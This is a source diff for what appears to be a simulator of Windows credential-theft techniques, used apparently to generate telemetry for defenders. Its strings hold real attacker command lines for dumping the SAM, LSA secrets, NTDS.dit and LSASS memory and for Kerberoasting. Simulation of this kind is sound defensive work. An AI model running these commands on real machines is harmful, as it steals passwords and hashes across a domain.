@@ -29,14 +29,14 @@ var credentialAccess = []*Technique{
 		script: &script{at: onElevated, then: stealLocal, variants: []variant{
 			by("esentutl", cmd(world.Esentutl, `esentutl.exe /y /vss C:\Windows\System32\config\SAM /d C:\Users\Public\s`)),
 			by("shadow copy", cmd(world.Cmd, `cmd.exe /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SAM C:\Users\Public\s`), file(`C:\Users\Public\s`)),
-			by("reg save", cmd(world.Reg, `reg save HKLM\SAM C:\Users\Public\sam.save`), file(`C:\Users\Public\sam.save`), cmd(world.Reg, `reg save HKLM\SYSTEM C:\Users\Public\system.save`)),
+			by("reg save", cmd(world.Reg, `reg save HKLM\SAM C:\Users\Public\sam.save`), cmd(world.Reg, `reg save HKLM\SYSTEM C:\Users\Public\system.save`)),
 		}},
 	},
 	{
 		ID: "T1003.004", Name: "OS Credential Dumping: LSA Secrets", Tactic: "credential-access", Effect: "passwords of services are stolen",
 		Takes: sim.LogNormal(2*time.Minute, 0.8), Success: 0.9,
 		script: &script{at: onElevated, then: stealServices, variants: []variant{
-			by("reg save", cmd(world.Reg, `reg save HKLM\SECURITY C:\Users\Public\security.save`), file(`C:\Users\Public\security.save`)),
+			by("reg save", cmd(world.Reg, `reg save HKLM\SECURITY C:\Users\Public\security.save`)),
 			by("PowerShell", powershell(`Get-ItemProperty -Path HKLM:\SECURITY\Policy\Secrets\*\CurrVal; Enable-TSDuplicateToken; Get-TSLsaSecret -Key DefaultPassword`)),
 		}},
 	},
@@ -44,7 +44,7 @@ var credentialAccess = []*Technique{
 		ID: "T1003.003", Name: "OS Credential Dumping: NTDS", Tactic: "credential-access", Effect: "the whole domain's hashes are stolen",
 		Needs: "an elevated foothold on a domain controller", Takes: sim.LogNormal(4*time.Minute, 0.8), Success: 0.93,
 		ready: needController, script: &script{at: onElevated, then: stealDomain, variants: []variant{
-			by("ntdsutil", cmd(world.Ntdsutil, `ntdsutil.exe "ac i ntds" "ifm" "create full C:\Windows\Temp\n" q q`), file(`C:\Windows\Temp\n\Active Directory\ntds.dit`), log("Application 325", "Provider_Name", "ESENT", "Data", `C:\Windows\Temp\n\Active Directory\ntds.dit`)),
+			by("ntdsutil", cmd(world.Ntdsutil, `ntdsutil.exe "ac i ntds" "ifm" "create full C:\Windows\Temp\n" q q`), file(`C:\Windows\Temp\n\Active Directory\ntds.dit`)),
 			by("shadow copy", cmd(world.Vssadmin, `vssadmin.exe create shadow /for=C:`), cmd(world.Cmd, `cmd.exe /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy2\Windows\NTDS\ntds.dit C:\Windows\Temp\n.dit`), file(`C:\Windows\Temp\n.dit`)),
 			by("diskshadow", cmd(world.Diskshadow, `diskshadow.exe /s C:\Windows\Temp\d.txt`)),
 		}},
@@ -177,12 +177,17 @@ func dumpLSASS(a *Attempt) Progress {
 		return failure("%s", errNotElevated)
 	}
 	var p *world.Process
-	switch a.Tool {
-	case "comsvcs":
+	r, played := a.playFurther(f)
+	if !r.OK() {
+		return blocked(r)
+	}
+	switch {
+	case played:
+	case a.Tool == "comsvcs":
 		p = a.start(f, world.Rundll32, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\l.dmp full`)
 		a.World.AccessProcess(a.Now+time.Second, a.Actor, p, world.Lsass, "0x1fffff", dumpTrace+`|C:\Windows\System32\comsvcs.dll+2a7c2`)
 		a.World.CreateFile(a.Now+3*time.Second, a.Actor, p, `C:\Windows\Temp\l.dmp`)
-	case "procdump":
+	case a.Tool == "procdump":
 		tool := world.Dropped(`C:\Users\Public\procdump64.exe`, &a.Rand)
 		tool.OriginalName, tool.Company, tool.Product, tool.Description = "procdump", "Sysinternals - www.sysinternals.com", "ProcDump", "Sysinternals process dump utility"
 		p = a.start(f, tool, `procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\lsass.dmp`)
@@ -252,6 +257,11 @@ func kerberoast(a *Attempt) Progress {
 	if a.Round == 0 && a.Tool == "Invoke-Kerberoast" {
 		a.start(f, world.PowerShell, `powershell.exe -c "IEX(gc C:\Users\Public\k.ps1 -raw); Invoke-Kerberoast -OutputFormat Hashcat"`)
 		a.World.RunScript(a.Now, a.Actor, a.last(f), "Invoke-Kerberoast -OutputFormat Hashcat | % { $_.Hash }")
+	}
+	if a.Round == 0 {
+		if r, _ := a.playFurther(f); !r.OK() {
+			return blocked(r)
+		}
 	}
 	if a.Round == 0 && a.Tool == "Rubeus" {
 		tool := world.Dropped(`C:\Users\Public\r.exe`, &a.Rand)
